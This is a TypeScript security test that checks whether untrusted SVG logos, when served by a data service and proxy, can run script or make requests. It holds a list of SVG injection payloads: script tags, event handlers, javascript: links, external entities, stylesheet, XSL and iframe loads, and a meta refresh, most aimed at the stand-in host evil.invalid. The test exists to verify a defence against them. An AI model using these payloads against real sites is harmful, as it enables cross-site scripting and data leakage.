import { once } from 'node:events';
import { createServer } from 'node:http';
import { startDataService } from '../server-data/app.ts';
import { createKey, hashKey } from '../server-data/keys.ts';
import { openSqliteStore } from '../server-data/store/sqlite/open.ts';
import { buildListing, buildLogo } from '../server-data/testing/logos.ts';
import { defaultSettings, upstreamAddress } from '../server-proxy/config.ts';
import { startProxy } from '../server-proxy/start.ts';
import { openWatchedBrowser, type Happened } from './proofs/watched-browser.ts';
import type { Table } from './table.ts';

export const question = 'Can a drawing from a stranger run or ask for anything where a logo is served, opened as a page or shown on one?';

const evil = 'http://evil.invalid';
const svg = (content: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attributes}>${content}<rect width="9" height="9"/></svg>`;
const html = (content: string): string =>
  svg(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${content}</body></foreignObject>`);

/** Each in its own way tries to run `ran=1`, or to ask something of `evil`. */
const drawings: Readonly<Record<string, string>> = {
  'a script': svg('<script>ran=1</script>'),
  'a script in CDATA': svg('<script><![CDATA[ran=1]]></script>'),
  'a script from elsewhere': svg(`<script href="${evil}/a.js"/><script xlink:href="${evil}/b.js"/>`),
  'a script under another prefix': svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran=1</x:script>'),
  'onload of the root': svg('', ' onload="ran=1"'),
  'onload of a shape': svg('<path onload="ran=1" d="M0 0"/><image href="data:," onerror="ran=1"/>'),
  'an animation that begins': svg(
    '<animate attributeName="x" begin="0s" dur="1s" onbegin="ran=1"/><set attributeName="x" to="1" onbegin="ran=1"/>',
  ),
  'an animated link': svg('<a><animate attributeName="href" to="javascript:ran=1"/><rect width="9" height="9"/></a>'),
  'a picture': svg(`<image href="${evil}/c.png" width="9" height="9"/>`),
  'a drawing in a drawing': svg(
    `<image href="data:image/svg+xml,${encodeURIComponent(svg(`<script>ran=1</script><image href="${evil}/d.png"/>`))}" width="9" height="9"/>`,
  ),
  'use of another document': svg(`<use href="${evil}/e.svg#a"/>`),
  'a style sheet': svg(
    `<style>@import url(${evil}/f.css); @font-face { font-family: x; src: url(${evil}/g) } rect { fill: url(${evil}/h.svg#a); font: 9px x }</style><text y="9">x</text>`,
  ),
  'a style sheet named first': `<?xml-stylesheet href="${evil}/i.css"?>${svg('')}`,
  'a transformation named first': `<?xml-stylesheet type="text/xsl" href="${evil}/j.xsl"?>${svg('')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY a SYSTEM "${evil}/k">]>${svg('<text>&a;</text>')}`,
  'a page with pictures': html(
    `<img src="${evil}/l" onerror="ran=1"/><video src="${evil}/m"/><object data="${evil}/n"/><embed src="${evil}/o"/>`,
  ),
  'a page with frames': html(`<iframe src="${evil}/p"></iframe><iframe srcdoc="&lt;script>parent.ran=1&lt;/script>"></iframe>`),
  'a page with a focused field': html('<input autofocus="" onfocus="ran=1"/><details open="" ontoggle="ran=1"/>'),
  'a page that goes on': html(`<meta http-equiv="refresh" content="0;url=${evil}/q"/>`),
  'a page with links ahead': html(`<link rel="stylesheet" href="${evil}/r"/><link rel="prefetch" href="${evil}/s"/>`),
};
const entries = Object.values(drawings).map((drawing, at) =>
  buildLogo(at + 1, [buildListing(`H${at}`, { cik: String(at + 1) })], { images: { mark_vector_light: drawing } }),
);

/** The same drawings without any of our headers, to see that they do what they can. */
async function serveBare(): Promise<{ url: string; close: () => void }> {
  const all = Object.values(drawings);
  const server = createServer(({ url = '' }, response) => {
    const [, at] = /^\/(\d+)$/.exec(url) ?? [];
    response.setHeader('content-type', at === undefined ? 'text/html' : 'image/svg+xml');
    response.end(at === undefined ? '<!doctype html>' : all[Number(at)]);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  return { url: `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`, close: () => server.close() };
}

async function serveOurs() {
  const store = openSqliteStore({ path: ':memory:' });
  store.writeLogos(entries);
  const key = createKey();
  store.addKey({ name: 'proof', hash: hashKey(key), plan: ['logos'], cusip: false, createdSeconds: 0 });
  const quiet = (): void => undefined;
  const service = await startDataService({
    ...{ store, host: '127.0.0.1', port: 0, rateLimitPerMinute: 1_000_000, now: Date.now, log: quiet },
    images: { url: '' },
  });
  const config = { ...defaultSettings, upstream: upstreamAddress(service.url, key) };
  const proxy = await startProxy({ config, port: 0 });
  const keys = entries.map(({ securities }) => securities[0]?.symbol).join();
  const answer = await fetch(`${service.url}/api/v2/logos/search?search_keys=${keys}&fields=mark_vector_light`, {
    headers: { authorization: `token ${key}` },
  });
  const { data } = (await answer.json()) as { data: { files: { mark_vector_light: string } }[] };
  return {
    origins: { 'the data service': service.url, 'the desk': proxy.url.replace(/\/$/, '') },
    addresses: data.map(({ files }) => files.mark_vector_light),
    close: async () => {
      await proxy.close();
      await service.close();
      store.close();
    },
  };
}

/** Long enough for what begins at once; nothing waits longer where traps are not held back. */
const settleMs = 400;

/** Opens every address as a page and shows it on one of its own origin; then tells what came of it. */
async function openAll(
  browser: Awaited<ReturnType<typeof openWatchedBrowser>>,
  addresses: readonly string[],
  blankPage: string,
): Promise<Happened> {
  const { context, happened } = await browser.watch({ bypassCSP: false, ourHost: new URL(blankPage).host });
  const page = await context.newPage();
  for (const address of addresses) {
    await page.goto(address).catch(() => undefined);
    await page.waitForTimeout(settleMs);
    if (page.url() !== address) happened.windows.push(page.url());
    await page.goto(blankPage);
    const isShown = await page.evaluate(async (src) => {
      const image = new Image();
      image.src = src;
      return image.decode().then(
        () => true,
        () => false,
      );
    }, address);
    if (isShown) await page.waitForTimeout(settleMs / 4);
  }
  await context.close();
  return happened;
}

/** A browser tells of requests that it then refuses; what counts is how many went as far as the network. */
const rowOf = (where: string, { ran, left, windows }: Happened): [string, number, number, number] => [
  where,
  ran,
  left.length,
  windows.length,
];

export async function run(): Promise<Table[]> {
  const browser = await openWatchedBrowser();
  const bare = await serveBare();
  const ours = await serveOurs();
  try {
    const rows = [];
    for (const [where, origin] of Object.entries(ours.origins)) {
      const answers = ours.addresses.map((address) => origin + address);
      // an address that is none: an error of ours, on the origin that has the pictures
      rows.push(rowOf(where, await openAll(browser, answers, `${origin}/healthz`)));
    }
    const unguarded = rowOf(
      'nobody, that is without our headers',
      await openAll(
        browser,
        entries.map((_, at) => `${bare.url}${at}`),
        bare.url,
      ),
    );
    const [, ran, left] = unguarded;
    if (ran === 0 || left === 0) throw new Error('the traps do not spring where nothing holds them back, so they prove nothing');
    const wrong = rows.filter(([, ...counts]) => counts.some((count) => count > 0));
    if (wrong.length > 0) throw new Error(`something happened: ${JSON.stringify(wrong)}`);
    return [
      {
        title: `${entries.length} drawings that do more than draw, opened as pages and shown on one`,
        columns: ['served by', 'scripts run', 'requests', 'pages that went elsewhere'],
        rows: [...rows, unguarded],
      },
    ];
  } finally {
    await browser.close();
    bare.close();
    await ours.close();
  }
}
